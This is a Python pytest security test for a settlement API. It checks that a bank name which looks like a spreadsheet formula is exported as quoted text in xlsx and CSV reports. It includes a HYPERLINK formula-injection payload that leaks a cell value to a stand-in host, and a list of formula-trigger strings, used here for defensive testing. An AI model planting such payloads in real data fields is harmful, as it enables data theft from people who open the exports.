"""Low: a bank name starting with `=` became a live formula in the xlsx report.

Attack: a bank is registered with the name `=HYPERLINK("https://x.invalid/?"&C2,"open")`
(names are free text typed at registration); an operator downloads /v1/report and opens it.
On the starting main openpyxl stored the name as a formula cell (data_type "f"), so
test_bank_name_is_text_in_the_xlsx_report fails there. CSV exports carry no bank-supplied
text today; their cells go through the same rule (unit tests below) and numbers, negative
ones included, must stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, update

from settlement_api.kit.spreadsheet_cells import csv_row, neutralise
from settlement_core.db.models import Bank
from tests.api.ledger_state import Event, LedgerState
from tests.conftest import ServiceRunner
from tests.security.api_stack import Apis, get, start_apis

NAME = '=HYPERLINK("https://x.invalid/?"&C2,"open")'


@pytest.fixture(scope="module")
def apis(isolated_env: dict[str, str], services: ServiceRunner) -> Apis:
    started = start_apis(isolated_env, services)
    state = LedgerState(isolated_env)
    state.add_bank("sec-evil")
    state.count(Event("sec-evil", "E1", "cross_border_rmb", Decimal("42.00"), "CNY", date(2020, 6, 1)))
    state.count(Event("sec-evil", "E2", "cross_border_rmb", Decimal("100.00"), "CNY", date(2020, 6, 2)))
    state.reverse(Event("sec-evil", "E2", "cross_border_rmb", Decimal("100.00"), "CNY", date(2020, 6, 2)), "E2-R")
    state.close()
    engine = create_engine(isolated_env["DATABASE_URL"])
    with engine.begin() as conn:
        conn.execute(update(Bank).where(Bank.bank_id == "sec-evil").values(name=NAME))
    engine.dispose()
    return started


@pytest.mark.integration
def test_bank_name_is_text_in_the_xlsx_report(apis: Apis) -> None:
    response = get(apis.private + "/v1/report", apis.operator, period="2020", format="xlsx")
    assert response.status_code == 200, response.text[:300]
    sheet = load_workbook(io.BytesIO(response.content))["banks"]
    cells = [row for row in sheet.iter_rows(min_row=2) if row[3].value == "sec-evil"]
    assert cells, "the bank is in the league"
    name = cells[0][4]
    assert name.data_type == "s"
    assert name.value == "'" + NAME
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    # Numbers stay numbers.
    settled = cells[0][5]
    assert settled.data_type == "n"
    assert Decimal(str(settled.value)) == Decimal("42.00")


@pytest.mark.integration
def test_csv_exports_keep_numbers_numbers(apis: Apis) -> None:
    own = get(
        apis.private + "/v1/totals",
        {**apis.operator, "Accept": "text/csv"},
        category="cross_border_rmb",
        granularity="day",
        bank_id="sec-evil",
        **{"from": "2020-06-01", "to": "2020-06-02"},
    )
    assert own.status_code == 200, own.text[:300]
    rows = list(csv.DictReader(io.StringIO(own.text)))
    assert [r["amount"] for r in rows] == ["42.00", "0.00"]
    for row in rows:
        assert not any(v.startswith("'") for v in row.values())


@pytest.mark.parametrize("payload", [NAME, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_formula_triggers_are_quoted(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row([payload, Decimal("-12.50"), "-12.50", "bank-1", 3]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + payload, "-12.50", "-12.50", "bank-1", "3"]
